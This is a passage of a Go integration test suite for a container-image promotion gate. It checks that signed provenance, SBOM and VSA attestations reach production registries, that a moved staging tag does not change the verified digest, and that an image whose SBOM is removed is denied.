			// The promoter ignores the denial: give it a moment, then nothing may be there.
			time.Sleep(200 * time.Millisecond)
			s.untouched(t, strings.SplitN(repo, ":", 2)[0], i)
		})
	}
}

// The same harness promotes genuine evidence (single-platform, same registry), puts the
// evidence and the VSA at the destination, and keeps the verified digest when the staging
// tag moves after the decision; and removing an attestation from an allowed image makes
// a new request deny.
func TestHappyPathAndTagMove(t *testing.T) {
	s := newSuite(t)
	i := s.push(t, "staging/happy")
	stagingTag, err := name.NewTag(s.host + "/staging/happy:release")
	if err != nil {
		t.Fatal(err)
	}
	tagTo := func(d name.Digest) {
		t.Helper()
		desc, err := remote.Get(d)
		if err != nil {
			t.Fatal(err)
		}
		if err := remote.Tag(stagingTag, desc); err != nil {
			t.Fatal(err)
		}
	}
	tagTo(i.ref)
	envs := s.good(t, i)
	s.ev.set(i.digest, envs)
	dest := s.host + "/prod/happy:v1"
	s.request(t, "happy", i, dest)
	if d := s.decision(t, "happy"); d.GetDecision() != eventsv1.Decision_DECISION_ALLOWED {
		t.Fatalf("genuine evidence denied: %q", d.GetReasons())
	}
	// The staging tag moves to another image between the decision and the copy.
	tagTo(s.push(t, "staging/happy").ref)
	if o := s.outcome(t, "happy"); o != "completed" {
		t.Fatalf("promotion: %s", o)
	}
	destTag, _ := name.NewTag(dest)
	if desc, err := remote.Head(destTag); err != nil || desc.Digest.String() != i.digest {
		t.Fatalf("destination tag: %v %v, want the verified %s", desc, err, i.digest)
	}
	atts, err := oci.ReadAttachments(context.Background(), destTag.Context().Digest(i.digest))
	if err != nil {
		t.Fatal(err)
	}
	there := map[string]bool{}
	for _, a := range atts {
		there[a.Digest] = true
		if a.PredicateType == attestation.PredicateVSAV1 {
			there["vsa"] = true
		}
	}
	for _, e := range envs {
		if !there[e.Digest] {
			t.Errorf("evidence %s missing at the destination", e.Digest)
		}
	}
	if !there["vsa"] {
		t.Error("the decision's VSA is missing at the destination")
	}

	// Monotonic through the real gate: without its SBOM, the same image is denied.
	s.ev.set(i.digest, append(envs[:1:1], envs[2:]...))
	s.request(t, "happy-without-sbom", i, s.host+"/prod/happy2:v1")
	if d := s.decision(t, "happy-without-sbom"); d.GetDecision() == eventsv1.Decision_DECISION_ALLOWED {
		t.Fatalf("removing the SBOM still allowed: %q", d.GetReasons())
	}
}

// Happy paths across registries and for a multi-platform index: every platform manifest
// and its own attestations reach the destination, then the tag.
func TestHappyPathsIndexAndCrossRegistry(t *testing.T) {
	s := newSuite(t)
	ctx := context.Background()

	// A two-platform index in staging, each platform with an attestation of its own.
	idx, err := random.Index(512, 1, 2)
	if err != nil {
		t.Fatal(err)
	}
	ref, err := name.NewTag(s.host + "/staging/multi:build")
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.WriteIndex(ref, idx); err != nil {
		t.Fatal(err)
	}
	h, err := idx.Digest()
	if err != nil {
		t.Fatal(err)
	}
	index := img{ref: ref.Context().Digest(h.String()), digest: h.String()}
	im, err := idx.IndexManifest()
	if err != nil {
		t.Fatal(err)
	}
	var children []img
	for _, m := range im.Manifests {
		c := img{ref: ref.Context().Digest(m.Digest.String()), digest: m.Digest.String()}
		children = append(children, c)
		if _, err := oci.Attach(ctx, c.ref, []oci.Attachment{{Envelope: sign(t, s.k.attestor, provenance(t, c, nil)),
			PredicateType: attestation.PredicateSLSAProvenanceV1}}); err != nil {
			t.Fatal(err)
		}
	}
	single := s.push(t, "staging/cross")

	for _, tc := range []struct {
		name, dest string
		i          img
	}{
		{"multi-platform index, same registry", s.host + "/prod/multi:v1", index},
		{"across registries", s.other + "/prod/cross:v1", single},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s.ev.set(tc.i.digest, s.good(t, tc.i))
			id := strings.ReplaceAll(tc.name, " ", "-")
			s.request(t, id, tc.i, tc.dest)
			if d := s.decision(t, id); d.GetDecision() != eventsv1.Decision_DECISION_ALLOWED {
				t.Fatalf("denied: %q", d.GetReasons())
			}
			if o := s.outcome(t, id); o != "completed" {
				t.Fatalf("promotion: %s", o)
			}
			destTag, _ := name.NewTag(tc.dest)
			if desc, err := remote.Head(destTag); err != nil || desc.Digest.String() != tc.i.digest {
				t.Fatalf("destination tag: %v %v, want %s", desc, err, tc.i.digest)
			}
			if tc.i.digest != index.digest {
				return
			}
			for _, c := range children {
				at := destTag.Context().Digest(c.digest)
				if _, err := remote.Get(at); err != nil {
					t.Errorf("platform manifest %s missing at the destination: %v", c.digest, err)
				}
				atts, err := oci.ReadAttachments(ctx, at)
				if err != nil || len(atts) != 1 {
					t.Errorf("platform %s has %d attestations at the destination (%v), want its 1", c.digest, len(atts), err)
				}
			}
		})
	}
}
